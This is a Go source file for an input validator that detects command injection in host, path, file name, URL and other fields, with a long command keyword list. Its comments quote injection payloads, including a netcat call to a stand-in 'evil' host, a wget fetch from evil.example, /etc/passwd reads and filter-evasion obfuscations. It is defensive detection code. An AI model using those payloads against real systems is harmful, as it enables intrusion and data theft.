package validate

import "strings"

// Command injection.
//
// A command separator or substitution (; && || | & ` $( newline) followed
// by a command is how a value breaks out of the command line an
// application builds around it. Where it matters:
//
//   - host fields: any separator or substitution is suspicious
//     (cmd.metachar), and a host starting with '-' is option injection;
//     host names never hold shell syntax legitimately.
//   - path and file name fields: "$(…)" or a backtick pair with content
//     is a substitution (cmd.substitution); a separator needs a command
//     after it (cmd.chained) with an argument a file name would not have
//     (an option, an absolute path, a URL, a lone number), or, for a
//     command that is not also an English word, nothing after it or a
//     host and port: "notes;draft.txt", "/tmp/a|b" and "Passport; ID
//     scan.pdf" are file names, "x;id" and "x | nc evil 4444" are not.
//   - URL, header, LDAP, query and unknown fields: a separator must be
//     followed by a known command (cmd.chained) or a substitution must
//     hold one (cmd.substitution); English words that are also commands
//     (cat, sleep, find…) need an argument that looks like one. Quotes,
//     backslashes, $@ and ${IFS} inside the command word are removed first
//     (w'h'o'am'i, c\at, who$@ami). ${IFS} itself and glob-only paths
//     (/???/??t) are flagged.
//   - shell fields: commands are expected; only reverse shells,
//     download-and-execute and destructive commands are tagged, and only
//     informationally.
//   - text: not scanned (model output is full of shell).

func cmdCandidate(m classes) bool {
	return m.has(cSemi | cPipe | cAmp | cBacktick | cDollar | cLF | cCR | cPct | cLBrace | cGT | cLT | cBackslash)
}

// cmdWorth is the pre-filter: a separator or substitution character, or
// for hosts and file names anything that may start a command line, or a
// batch keyword or a call.
func cmdWorth(k FieldKind, s string, m classes) bool {
	if cmdCandidate(m) {
		return true
	}
	switch k {
	case KindHost:
		if len(s) > 0 && s[0] == '-' || m.has(cParen|cQuote|cPlus) || strings.ContainsAny(strings.TrimSpace(s), " \t") {
			return true
		}
	case KindFilename, KindUnknown:
		if m.has(cPlus|cQuote) || strings.IndexByte(s, ' ') >= 0 {
			return true
		}
	}
	return cmdShapeCandidate(s, m)
}

// globCommand reports a command named by a wildcard path right after a
// separator: ";/usr/bin/wh?ami", "|/b??/c?t /e??/p?ss??".
func globCommand(s string, i int) string {
	i = skipSpace(s, i)
	if i >= len(s) || s[i] != '/' {
		return ""
	}
	j := i
	wild := false
	for j < len(s) && !isSpace(s[j]) && s[j] != ';' && s[j] != '|' && s[j] != '&' {
		switch s[j] {
		case '?', '*':
			wild = true
		case '=', '#':
			return ""
		}
		j++
	}
	if !wild {
		return ""
	}
	return s[i:j]
}

// globPath finds a path written with wildcards only ("/???/??t",
// "/bin/c?t"): the way payloads name /bin/cat past a word filter. It needs
// a segment of two or more '?' between slashes, or a '?' inside a known
// command name under /bin.
func globPath(s string) string {
	for i := 0; i+3 < len(s); i++ {
		if s[i] != '/' || s[i+1] != '?' {
			continue
		}
		j := i + 1
		for j < len(s) && (s[j] == '?' || s[j] == '*') {
			j++
		}
		if j-i-1 >= 2 && j < len(s) && s[j] == '/' {
			return s[i:min(len(s), j+4)]
		}
	}
	return ""
}

func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
	if !cmdWorth(k, s, m) {
		return
	}
	if !cmdCandidate(m) && k != KindHost && !m.has(cParen|cQuote|cBracket|cStar|cPlus) {
		// No separator, substitution or quote: only a command line from
		// the first word ("whoami", "which netcat", "FOR /D %a IN …" is
		// a candidate by its '%') can be here.
		if k == KindUnknown || k == KindFilename {
			if span := commandLineStart(s, k == KindFilename); span != "" {
				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
				return
			}
		}
		if k == KindFilename {
			if span := bareCommand(s); span != "" {
				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
				return
			}
		}
		if m.has(cPct|cEq|cSlash) || batchStart(s) {
			if rule, span := cmdShapes(s, m); rule != "" {
				c.report(k, ThreatCmdInjection, rule, span, false)
			}
		}
		return
	}
	t := s
	if m.has(cPct) {
		d, rounds := c.dec.canonical(s, false)
		if rounds > 0 {
			t = bstr(d)
			m = classify(t)
		}
	}
	switch k {
	case KindHost:
		// A host name or address never holds shell syntax, nor spaces.
		if span := shellMeta(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
			return
		}
		if span := hostMeta(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
			return
		}
		if span := hostCommand(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.host_command", span, false)
			return
		}
		if len(t) > 0 && t[0] == '-' {
			c.report(k, ThreatCmdInjection, "cmd.option_injection", t[:min(len(t), 16)], false)
			return
		}
	case KindPath, KindFilename:
		// File names do hold ';', '|' and '&' ("notes;draft.txt",
		// "Q1 report; final (v2).xlsx", "/srv/data;v=2/x"); what breaks
		// out of a command line is a substitution or a separator followed
		// by a command, below.
		if span := substitution(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.substitution", span, false)
			return
		}
		if k == KindFilename {
			if span := bareCommand(t); span != "" {
				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
				return
			}
			if span := commandLineStart(t, true); span != "" {
				c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
				return
			}
		}
	case KindUnknown:
		if span := commandLineStart(t, false); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.command_line", span, false)
			return
		}
	}
	if m.has(cQuote | cBacktick | cBackslash | cDollar) {
		if span := obfuscatedCommand(t, k != KindPath && k != KindFilename); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.obfuscated", span, false)
			return
		}
	}
	if m.has(cDollar) {
		if i := indexFold(t, "$ifs", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ifs", t[i:i+4], false)
			return
		}
		if i := indexFold(t, "${ifs", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ifs", t[i:i+5], false)
			return
		}
	}
	if rule, span := chainedCommand(t, k); rule != "" {
		c.report(k, ThreatCmdInjection, rule, span, false)
		return
	}
	if m.has(cLT) && m.has(cHash) {
		if i := indexFold(t, "<!--#exec", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ssi", t[i:i+9], false)
			return
		}
	}
	if span := globPath(t); span != "" {
		c.report(k, ThreatCmdInjection, "cmd.glob", span, false)
		return
	}
	if m.has(cSlash) && strings.ContainsAny(t, "?*[") {
		if span := globTarget(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.glob", span, false)
			return
		}
	}
	if rule, span := cmdShapes(t, m); rule != "" {
		c.report(k, ThreatCmdInjection, rule, span, false)
		return
	}
	if rule, span := shellDanger(t, m); rule != "" {
		c.report(k, ThreatCmdInjection, rule, span, false)
	}
}

// shellMeta finds shell syntax in a host, which should have none.
func shellMeta(s string) string {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ';', '|', '`', '\n', '\r', '&':
			return s[i:min(len(s), i+8)]
		case '$', '<', '>':
			// "$(…)" substitutes, and so do "<(…)" and ">(…)"; "${IFS}"
			// is caught on its own.
			if i+1 < len(s) && s[i+1] == '(' {
				return s[i:min(len(s), i+8)]
			}
		}
	}
	return ""
}

// substitution finds a command substitution with content: "$(…)",
// "<(…)", ">(…)" or a backtick pair around something other than spaces.
// "$((1+2))" is arithmetic and "${HOME}" a variable; neither runs a
// command.
func substitution(s string) string {
	for i := 0; i+1 < len(s); i++ {
		switch s[i] {
		case '$', '<', '>':
			if s[i+1] != '(' || (i+2 < len(s) && s[i+2] == '(') {
				continue
			}
			if end := strings.IndexByte(s[i+2:], ')'); end >= 0 && strings.TrimSpace(s[i+2:i+2+end]) != "" {
				return s[i:min(len(s), i+16)]
			}
		case '`':
			if end := strings.IndexByte(s[i+1:], '`'); end >= 0 && strings.TrimSpace(s[i+1:i+1+end]) != "" {
				return s[i : i+2+end]
			}
			return ""
		}
	}
	return ""
}

// chainedCommand finds a separator followed by a command, or a
// substitution holding one.
func chainedCommand(s string, k FieldKind) (string, string) {
	for i := 0; i < len(s); i++ {
		ch := s[i]
		var next int
		weak := false
		switch ch {
		case ';':
			next = i + 1
		case '|':
			next = i + 1
			if next < len(s) && s[next] == '|' {
				next++
			}
		case '&':
			next = i + 1
			if next < len(s) && s[next] == '&' {
				next++
			} else {
				// In URLs and headers a single '&' separates parameters
				// ("?a=1&id=5"); it is a command separator there only
				// when a space follows ("& systeminfo").
				if (k == KindURL || k == KindHeader) && (next >= len(s) || s[next] != ' ') {
					continue
				}
				weak = true
			}
		case '\n', '\r':
			next = i + 1
			weak = true
		case '\\':
			// A literal "\n" where the payload expects a decoder to make a
			// newline of it: "10.0.0.5\n/usr/bin/id\n".
			if i+1 >= len(s) || (s[i+1] != 'n' && s[i+1] != 'r') {
				continue
			}
			next = ansiEscape(s, i+2)
			weak = true
		case '{':
			// Brace expansion runs its first word with the rest as
			// arguments: {cat,/etc/passwd}, {,$'whoami',}.
			if cmd, _, _ := commandAt(s, i); cmd != "" {
				if e := strings.Index(s[i:], cmd) + i + len(cmd); e < len(s) && (s[e] == ',' || s[e] == '\'' && e+1 < len(s) && s[e+1] == ',') {
					return "cmd.brace_expansion", s[i:min(len(s), e+1)]
				}
			}
			continue
		case '`':
			// A Markdown code span "run `ls -la` now" is text, not a
			// substitution: it needs a non-space before it or to start
			// the value.
			if i > 0 && isSpace(s[i-1]) && k == KindUnknown {
				continue
			}
			if end := strings.IndexByte(s[i+1:], '`'); end >= 0 {
				if cmd, strong, shaped := commandAt(s[:i+1+end], i+1); cmd != "" && (strong || shaped) {
					return "cmd.substitution", s[i : i+2+end]
				}
			}
			continue
		case '$', '<', '>':
			// $(…) and process substitution <(…) >(…) are shell syntax
			// whatever command they hold, when they close: "<(cat file)".
			if i+1 < len(s) && s[i+1] == '(' && (i+2 >= len(s) || s[i+2] != '(') {
				if cmd, _, _ := commandAt(s, i+2); cmd != "" && strings.IndexByte(s[i+2:], ')') >= 0 {
					return "cmd.substitution", s[i:min(len(s), i+16)]
				}
			}
			if ch == '$' && i > 0 && i+1 < len(s) && isAlpha(s[i+1]) && isSeparator(s[i-1]) {
				// "garb=adduse[r];$garb pizza": a command assembled in a
				// variable and run by name.
				if span := variableRun(s, i); span != "" {
					return "cmd.variable", span
				}
			}
			continue
		default:
			continue
		}
		if !weak && ch != '&' {
			if span := functionDef(s, next); span != "" {
				return "cmd.function_def", span
			}
		}
		cmd, strong, shaped := commandAt(s, next)
		if cmd == "" {
			if span := globCommand(s, next); span != "" && !weak {
				return "cmd.glob", span
			}
			continue
		}
		end := strings.Index(s[next:], cmd) + next + len(cmd)
		if shaped && (k == KindPath || k == KindFilename) {
			shaped = pathArgShaped(s, end)
		}
		if !shaped && !(strong && (endsCommand(s, end) || hostPort(s, end))) {
			continue
		}
		if ch == '|' && next == i+1 && !strong && pipeFilter(cmd) && strings.TrimSpace(s[end:]) == "" {
			// "-la | sort": a pipeline ending in a filter is an argument
			// list, not a payload.
			continue
		}
		return "cmd.chained", s[i:min(len(s), next+len(cmd)+8)]
	}
	return "", ""
}

// endsCommand reports whether the command word ending at i is the last
// thing on its line ("\nid\n", ";whoami").
func endsCommand(s string, i int) bool {
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	return i >= len(s) || s[i] == '\n' || s[i] == '\r' || s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '#' || s[i] == '`' || s[i] == ')' ||
		s[i] == '\\' && i+1 < len(s) && (s[i+1] == 'n' || s[i+1] == 'r')
}

// commandAt reads the command word at s[i:] (after spaces, '{', '(' and a
// leading path such as /bin/ or /usr/bin/), removing quote and escape
// obfuscation, and reports it when it is a known command. strong says the
// word is not also an everyday English word; shaped says an argument that
// looks like one follows (an option, a path, a number, a redirection).
func commandAt(s string, i int) (cmd string, strong, shaped bool) {
	i = skipCmdSpace(s, i)
	brace := false
	for start := i; i < len(s) && i-start < 8 && (s[i] == '{' || s[i] == '(' || s[i] == '!' || (brace && s[i] == ',')); {
		brace = brace || s[i] == '{'
		i = skipCmdSpace(s, i+1)
	}
	var w [24]byte
	n := 0
	j := i
	for j < len(s) && n < len(w) {
		ch := s[j]
		switch {
		case ch == '\\' && j+1 < len(s) && (s[j+1] == 'n' || s[j+1] == 'r') && n > 0 && isCommandWord(w[:n]):
			// "/usr/bin/id\n": a literal newline escape ends the word.
		case ch == '\'' || ch == '"' || ch == '\\':
			j++
			continue
		case ch == '$' && j+2 < len(s) && (s[j+1] == '(' && s[j+2] == ')' || s[j+1] == '{' && s[j+2] == '}'):
			j += 3 // "pi$()ng": an empty substitution
			continue
		case ch == '$' && j+1 < len(s) && (s[j+1] == '@' || s[j+1] == '*' || s[j+1] == '!' || s[j+1] >= '1' && s[j+1] <= '9'):
			j += 2 // "c$@at", "c$!at": parameters that expand to nothing
			continue
		case ch == '$' && j+1 < len(s) && (s[j+1] == '\'' || s[j+1] == '"'):
			j++ // $'…' is a quoted string to bash
			continue
		case ch == '`' && j+1 < len(s) && s[j+1] == '`':
			j += 2 // an empty substitution: ping`` 127.0.0.1
			continue
		case ch == '/':
			n = 0 // keep only the last path element: /usr/bin/id is id
			j++
			continue
		case isAlnum(ch) || ch == '_' || ch == '-' || ch == '.':
			if ch >= 'A' && ch <= 'Z' {
				ch += 'a' - 'A'
			}
			w[n] = ch
			n++
			j++
			continue
		}
		break
	}
	if n == 0 || n == len(w) {
		return "", false, false
	}
	if n > 4 && string(w[n-4:n]) == ".exe" {
		n -= 4
	}
	tier, ok := commandWords[string(w[:n])]
	if !ok {
		// "ansible-config", "chef-vault": a tool's sub-binary;
		// "gcc7.4", "python3.10": a versioned one.
		if d := strings.IndexByte(string(w[:n]), '-'); d > 1 {
			tier, ok = commandWords[string(w[:d])]
		}
		if v := n; !ok && isDigit(w[n-1]) {
			for v > 1 && (isDigit(w[v-1]) || w[v-1] == '.') {
				v--
			}
			if v > 1 {
				tier, ok = commandWords[string(w[:v])]
				if !ok {
					tier, ok = commandWords[string(w[:v+1])]
				}
			}
		}
		if !ok {
			return "", false, false
		}
	}
	if sub := subcommands[string(w[:n])]; sub != nil && j < len(s) && s[j] == ' ' {
		// "net user", "reg query": a Windows command with its verb.
		k := skipSpace(s, j)
		e := k
		for e < len(s) && isAlpha(s[e]) {
			e++
		}
		var b [16]byte
		if e-k > 0 && e-k <= len(b) {
			sb := lowerASCII(b[:0], s[k:e])
			if sub[string(sb)] {
				return s[i:e], true, true
			}
		}
	}
	if tier == subCmd {
		return "", false, false
	}
	// An assignment or a key ("&id=5", "cat: 3") is not a command.
	if j < len(s) && (s[j] == '=' || s[j] == ':') {
		return "", false, false
	}
	if j < len(s) && s[j] == ',' && !brace {
		// "image/png;base64,iVBOR…": a comma only separates arguments in
		// a brace expansion ({cat,/etc/passwd}).
		return s[i:j], tier == strongCmd, false
	}
	if tier == weakCmd && j < len(s) && (s[j] == '|' || s[j] == ';' || s[j] == '&') {
		// "verify|query|reindex": an English word between separators is
		// an enumeration, not a command; "dir|c:\" has a drive after it.
		return s[i:j], false, drivePath(s, j+1)
	}
	if tier == weakCmd && nounCommands[string(w[:n])] && endsCommand(s, j) {
		// "MySQL | Redis | Docker": a tool named in a list
		return s[i:j], false, false
	}
	return s[i:j], tier == strongCmd, argShaped(s, j)
}

// nounCommands are tools people name in lists and sentences ("Docker;
// Kubernetes; Terraform"); they count as commands only with an argument.
var nounCommands = map[string]bool{
	"docker": true, "podman": true, "kubectl": true, "terraform": true, "ansible": true, "vagrant": true,
	"npm": true, "pnpm": true, "pip": true, "pip3": true, "deno": true, "svn": true, "sqlite3": true,
	"gpg": true, "tmux": true, "vim": true, "vi": true, "nano": true, "emacs": true, "psql": true,
	"mysql": true, "mongo": true, "git": true, "hg": true, "composer": true, "puppet": true, "chef": true,
	"pacman": true, "apk": true, "node": true, "java": true, "lua": true, "make": true, "hydra": true,
	"finger": true, "service": true, "calc": true, "zip": true, "mail": true, "host": true,
}

func isCommandWord(w []byte) bool {
	_, ok := commandWords[string(w)]
	return ok
}

// argShaped reports an argument that looks like one: an option, a path,
// a host or address, a number, a variable, a quote, a redirection or a
// call ("system('id')"). A plain word ("; id is required") is not one.
func argShaped(s string, j int) bool {
	k, decided, shaped := argStart(s, j, "$<>,}(;|&`'\"")
	if decided {
		return shaped
	}
	switch s[k] {
	case '-', '/', '\\', '$', '.', '~', '>', '<', '|', ';', '&', '\'', '"', '`', '%', '{', '}', ',', '*', '\n', '@':
		return true
	}
	if isDigit(s[k]) {
		return true
	}
	// a host name or file name: a word with a dot, slash or colon in it
	for e := k; e < len(s) && e < k+64 && !isSpace(s[e]); e++ {
		if s[e] == '.' || s[e] == '/' || s[e] == ':' || s[e] == '\\' {
			return e+1 < len(s) && !isSpace(s[e+1])
		}
	}
	return false
}

// argStart looks at what follows a command word ending at s[j]: the end
// of the value or a byte of attached (a redirection, a quote, a
// separator) decide at once that an argument is there; anything but blanks
// or '+' (an encoded space) decides that none is. Otherwise k is where the
// argument after the blanks starts, for the caller's own rules.
func argStart(s string, j int, attached string) (k int, decided, shaped bool) {
	if j >= len(s) {
		return j, true, true
	}
	if strings.IndexByte(attached, s[j]) >= 0 {
		return j, true, true
	}
	if s[j] != ' ' && s[j] != '\t' && s[j] != '+' {
		return j, true, false
	}
	k = j
	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '+') {
		k++
	}
	if k >= len(s) {
		return k, true, true
	}
	return k, false, false
}

// pathArgShaped narrows argShaped for path and file name fields, where a
// command word may just be a word ("Notes; more (v2).txt", "Passport; id
// scan.pdf"): only what a command line has and a file name does not
// counts: an option, an absolute, home or drive path, a URL, a variable,
// a redirection, a separator, a quote or a number standing alone.
func pathArgShaped(s string, j int) bool {
	k, decided, shaped := argStart(s, j, "$<>;|&`'\"},")
	if decided {
		return shaped
	}
	switch s[k] {
	case '-', '/', '\\', '$', '~', '>', '<', '|', ';', '&', '\'', '"', '`', '*', '{':
		return true
	}
	if isDigit(s[k]) {
		e := k
		for e < len(s) && isDigit(s[e]) {
			e++
		}
		return e == len(s) || isSpace(s[e]) || s[e] == ';' || s[e] == '|' || s[e] == '&'
	}
	if drivePath(s, k) || winVar(s, k) {
		return true // a drive path or a variable: "type C:\Windows\win.ini", "type %SYSTEMROOT%\…"
	}
	// a URL: "wget http://evil.example/x"
	e := k
	for e < len(s) && e-k < 16 && isAlpha(s[e]) {
		e++
	}
	return e > k && strings.HasPrefix(s[e:], "://")
}

// hostPort reports "host port" after a command word: "nc evil 4444",
// "telnet 10.0.0.1 23". Only strong commands take it as an argument.
func hostPort(s string, j int) bool {
	k := skipSpace(s, j)
	if k == j || k >= len(s) {
		return false
	}
	e := k
	for e < len(s) && !isSpace(s[e]) && e-k < 256 {
		if !(isAlnum(s[e]) || s[e] == '.' || s[e] == '-' || s[e] == ':' || s[e] == '_') {
			return false
		}
		e++
	}
	p := skipSpace(s, e)
	if p == e || p >= len(s) || !isDigit(s[p]) {
		return false
	}
	q := p
	for q < len(s) && isDigit(s[q]) {
		q++
	}
	return q-p <= 5 && (q == len(s) || isSpace(s[q]) || s[q] == ';' || s[q] == '|' || s[q] == '&')
}

const (
	weakCmd   = 1
	strongCmd = 2
	subCmd    = 3 // a command only with one of its subcommands ("sc query")
)

// subcommands make a weak word a command: "net user", "reg query".
var subcommands = map[string]map[string]bool{
	"net":       {"user": true, "users": true, "localgroup": true, "group": true, "share": true, "view": true, "use": true, "session": true, "accounts": true, "start": true, "stop": true},
	"reg":       {"query": true, "add": true, "delete": true, "export": true, "save": true},
	"docker":    {"run": true, "exec": true, "pull": true, "cp": true, "build": true, "images": true, "ps": true, "inspect": true},
	"podman":    {"run": true, "exec": true, "pull": true, "cp": true},
	"kubectl":   {"get": true, "exec": true, "apply": true, "delete": true, "run": true, "describe": true, "logs": true, "cp": true, "auth": true},
	"git":       {"clone": true, "pull": true, "push": true, "log": true, "config": true, "checkout": true, "reset": true, "remote": true},
	"npm":       {"install": true, "i": true, "run": true, "exec": true, "publish": true},
	"pnpm":      {"install": true, "add": true, "run": true, "exec": true, "dlx": true},
	"pip":       {"install": true, "download": true, "uninstall": true},
	"pip3":      {"install": true, "download": true, "uninstall": true},
	"ansible":   {"all": true, "localhost": true},
	"terraform": {"apply": true, "destroy": true, "init": true, "plan": true},
	"sc":        {"query": true, "create": true, "config": true, "start": true, "stop": true, "delete": true},
	"wmic":      {"process": true, "os": true, "useraccount": true, "service": true, "qfe": true, "product": true},
}

// commandWords are the commands injection payloads run. Strong ones are
// not everyday English words.
var commandWords = map[string]int{
	"whoami": strongCmd, "uname": strongCmd, "ifconfig": strongCmd, "ipconfig": strongCmd,
	"netstat": strongCmd, "nslookup": strongCmd, "wget": strongCmd, "curl": strongCmd,
	"nc": strongCmd, "ncat": strongCmd, "netcat": strongCmd, "bash": strongCmd, "sh": strongCmd,
	"zsh": strongCmd, "ksh": strongCmd, "csh": strongCmd, "tcsh": strongCmd, "dash": weakCmd,
	"powershell": strongCmd, "pwsh": strongCmd, "cmd": strongCmd, "certutil": strongCmd,
	"bitsadmin": strongCmd, "systeminfo": strongCmd, "tasklist": strongCmd, "chmod": strongCmd,
	"chown": strongCmd, "mkfifo": strongCmd, "telnet": strongCmd, "rm": strongCmd, "ls": strongCmd,
	"ps": strongCmd, "id": strongCmd, "pwd": strongCmd, "perl": strongCmd, "python": strongCmd,
	"python2": strongCmd, "python3": strongCmd, "php": strongCmd, "ruby": strongCmd, "node": weakCmd,
	"busybox": strongCmd, "base64": strongCmd, "xxd": strongCmd, "nohup": strongCmd, "sudo": strongCmd,
	"socat": strongCmd, "printenv": strongCmd, "crontab": strongCmd, "useradd": strongCmd,
	"wmic": strongCmd, "reg": weakCmd, "net": weakCmd, "cscript": strongCmd, "wscript": strongCmd,
	"mshta": strongCmd, "rundll32": strongCmd, "regsvr32": strongCmd, "tftp": strongCmd,
	"scp": strongCmd, "ssh": strongCmd, "sftp": strongCmd, "nmap": strongCmd, "grep": strongCmd,
	"egrep": strongCmd, "awk": strongCmd, "gawk": strongCmd, "sed": strongCmd, "xargs": strongCmd,
	"eval": strongCmd, "exec": strongCmd, "ping": weakCmd, "traceroute": strongCmd,
	"tracert": strongCmd, "whois": strongCmd, "uptime": strongCmd, "hostname": strongCmd,
	"lsb_release": strongCmd, "getent": strongCmd, "passwd": weakCmd, "killall": strongCmd,
	"pkill": strongCmd, "dir": weakCmd, "type": weakCmd, "cat": weakCmd, "tac": strongCmd,
	"nl": strongCmd, "echo": weakCmd, "printf": strongCmd, "sleep": weakCmd, "timeout": weakCmd,
	"find": weakCmd, "sort": weakCmd, "head": weakCmd, "tail": weakCmd, "kill": weakCmd,
	"more": weakCmd, "less": weakCmd, "touch": weakCmd, "date": weakCmd, "env": weakCmd,
	"export": weakCmd, "which": weakCmd, "whereis": strongCmd, "mail": weakCmd, "dig": weakCmd,
	"host": weakCmd, "tee": weakCmd, "dd": weakCmd, "wc": strongCmd, "uniq": strongCmd,
	"od": strongCmd, "hexdump": strongCmd, "strings": weakCmd, "chattr": strongCmd,
	"mkdir": strongCmd, "rmdir": strongCmd, "cp": strongCmd, "mv": strongCmd, "ln": strongCmd,
	"tar": strongCmd, "zip": weakCmd, "unzip": strongCmd, "gzip": strongCmd, "openssl": strongCmd,
	"java": weakCmd, "lua": weakCmd, "gcc": strongCmd, "cc": weakCmd, "make": weakCmd,
	"set": weakCmd, "uname-a": strongCmd, "ver": weakCmd, "start": weakCmd,
	"shutdown": strongCmd, "reboot": strongCmd, "halt": weakCmd, "lsof": strongCmd,
	"ss": weakCmd, "arp": strongCmd, "route": weakCmd, "iptables": strongCmd, "xterm": strongCmd,
	"del": weakCmd, "copy": weakCmd, "fsockopen": strongCmd, "system": weakCmd,

	// Archives, encodings and file tools.
	"gunzip": strongCmd, "bunzip2": strongCmd, "bzip2": strongCmd, "xz": strongCmd, "unxz": strongCmd,
	"zcat": strongCmd, "bzcat": strongCmd, "xzcat": strongCmd, "7z": strongCmd, "7za": strongCmd,
	"unrar": strongCmd, "cpio": strongCmd, "base32": strongCmd, "uuencode": strongCmd, "uudecode": strongCmd,
	"iconv": strongCmd, "shred": strongCmd, "truncate": weakCmd, "readlink": strongCmd, "realpath": strongCmd,
	"dirname": strongCmd, "basename": weakCmd, "updatedb": strongCmd, "stat": weakCmd,
	"du": weakCmd, "df": strongCmd, "diff": weakCmd, "cmp": strongCmd,
	"comm": weakCmd, "tr": weakCmd,
	"shuf":   strongCmd,
	"md5sum": strongCmd, "sha1sum": strongCmd, "sha256sum": strongCmd, "cksum": strongCmd,
	"rsync": strongCmd, "ftp": strongCmd, "lftp": strongCmd, "smbclient": strongCmd,
	"rpcclient": strongCmd, "ldapsearch": strongCmd, "umount": strongCmd,
	"mkfs": strongCmd, "fdisk": strongCmd, "chgrp": strongCmd, "setfacl": strongCmd, "getfacl": strongCmd,
	"chroot": strongCmd, "unlink": weakCmd, "mktemp": strongCmd, "mknod": strongCmd, "jq": strongCmd,
	"vi": weakCmd, "vim": weakCmd, "nano": weakCmd, "emacs": weakCmd,

	// Processes, users and the system.
	"strace": strongCmd, "ltrace": strongCmd, "gdb": strongCmd,
	"renice": strongCmd, "setsid": strongCmd, "disown": strongCmd, "su": weakCmd,
	"doas": strongCmd, "pkexec": strongCmd, "runuser": strongCmd, "who": weakCmd, "w": weakCmd,
	"lastlog": strongCmd, "finger": weakCmd,
	"usermod": strongCmd, "userdel": strongCmd, "groupadd": strongCmd, "adduser": strongCmd,
	"deluser": strongCmd, "chpasswd": strongCmd, "visudo": strongCmd, "htop": strongCmd,
	"vmstat": strongCmd, "iostat": strongCmd, "lscpu": strongCmd, "lsblk": strongCmd,
	"lsmod": strongCmd, "modprobe": strongCmd, "insmod": strongCmd, "dmesg": strongCmd, "sysctl": strongCmd,
	"ulimit": strongCmd, "umask": strongCmd, "alias": weakCmd, "unalias": strongCmd,
	"systemctl": strongCmd, "service": weakCmd, "journalctl": strongCmd,
	"hostnamectl": strongCmd, "ifup": strongCmd, "ifdown": strongCmd,
	"tcpdump": strongCmd, "tshark": strongCmd, "masscan": strongCmd, "hydra": weakCmd, "sqlmap": strongCmd,
	"nikto": strongCmd, "msfconsole": strongCmd, "msfvenom": strongCmd, "ssh-keygen": strongCmd,
	"sshpass": strongCmd, "dnsenum": strongCmd, "fping": strongCmd, "mtr": strongCmd, "arping": strongCmd,
	"getcap": strongCmd, "setcap": strongCmd, "capsh": strongCmd,
	"tmux": weakCmd, "seq": weakCmd,
	"builtin": weakCmd,

	"unset": weakCmd, "shopt": strongCmd, "compgen": strongCmd,

	// Interpreters, build tools and package managers.
	"pip": weakCmd, "pip3": weakCmd, "npm": weakCmd, "npx": strongCmd,
	"pnpm":  weakCmd,
	"rustc": strongCmd, "javac": strongCmd, "jshell": strongCmd,
	"irb": strongCmd, "deno": weakCmd, "tclsh": strongCmd,
	"luajit": strongCmd, "php-cgi": strongCmd, "phpunit": strongCmd, "composer": weakCmd,
	"apt": strongCmd, "apt-get": strongCmd, "aptitude": strongCmd, "yum": strongCmd, "dnf": strongCmd,
	"apk": weakCmd, "rpm": strongCmd, "dpkg": strongCmd, "pacman": weakCmd,
	"zypper": strongCmd, "git": weakCmd, "svn": weakCmd, "hg": weakCmd, "docker": weakCmd,
	"podman": weakCmd, "kubectl": weakCmd, "terraform": weakCmd,
	"ansible": weakCmd, "ansible-playbook": strongCmd, "chef": weakCmd, "chef-client": strongCmd,
	"puppet": weakCmd, "vagrant": weakCmd, "mysql": weakCmd,
	"mysqldump": strongCmd, "psql": weakCmd, "pg_dump": strongCmd, "sqlite3": weakCmd,
	"mongo": weakCmd, "mongosh": strongCmd, "redis-cli": strongCmd, "gpg": weakCmd,
	"expr": weakCmd, "mawk": strongCmd, "nawk": strongCmd,
	"rbash": strongCmd, "mksh": strongCmd, "osascript": strongCmd,
	"xdg-open": strongCmd,

	// Windows built-ins and tools.
	"xcopy": strongCmd, "robocopy": strongCmd, "erase": weakCmd,
	"ren": weakCmd, "attrib": strongCmd, "cacls": strongCmd,
	"icacls": strongCmd, "takeown": strongCmd, "findstr": strongCmd, "forfiles": strongCmd,
	"wevtutil": strongCmd, "vssadmin": strongCmd, "bcdedit": strongCmd, "msiexec": strongCmd,
	"regedit": strongCmd, "notepad": strongCmd, "calc": weakCmd, "mspaint": strongCmd, "odbcconf": strongCmd,
	"installutil": strongCmd, "msbuild": strongCmd, "cmstp": strongCmd, "esentutl": strongCmd,
	"extrac32": strongCmd, "makecab": strongCmd, "setx": strongCmd, "assoc": strongCmd,
	"ftype": strongCmd, "pushd": strongCmd, "popd": strongCmd, "cls": weakCmd, "logoff": strongCmd,
	"quser": strongCmd, "qwinsta": strongCmd, "klist": strongCmd, "runas": strongCmd, "psexec": strongCmd,
	"sdelete": strongCmd, "schtasks": strongCmd, "taskkill": strongCmd, "netsh": strongCmd,
	"nltest": strongCmd, "dsquery": strongCmd,
	"certreq": strongCmd,
	"mklink":  strongCmd, "subst": weakCmd,
	"goto": weakCmd, "chcp": strongCmd, "doskey": strongCmd, "fsutil": strongCmd,
	"diskpart": strongCmd, "gpresult": strongCmd, "gpupdate": strongCmd, "sfc": strongCmd, "ntdsutil": strongCmd,
	"get-content": strongCmd, "invoke-expression": strongCmd, "iex": strongCmd, "invoke-webrequest": strongCmd,
	"iwr": strongCmd, "start-process": strongCmd, "new-object": strongCmd, "get-childitem": strongCmd,
	"gci": strongCmd, "get-process": strongCmd, "invoke-command": strongCmd, "sc": subCmd,

	// Binaries that GTFOBins lists for shells, reads and uploads, and
	// that are not everyday words.
	"sysinfo": strongCmd, "perf": weakCmd, "aria2c": strongCmd, "arj": strongCmd, "ab": weakCmd,
	"busctl": strongCmd, "cpan": strongCmd, "cpulimit": strongCmd, "dmsetup": strongCmd, "dosbox": strongCmd,
	"easy_install": strongCmd, "eb": weakCmd, "gimp": weakCmd, "ghc": strongCmd, "ghci": strongCmd,
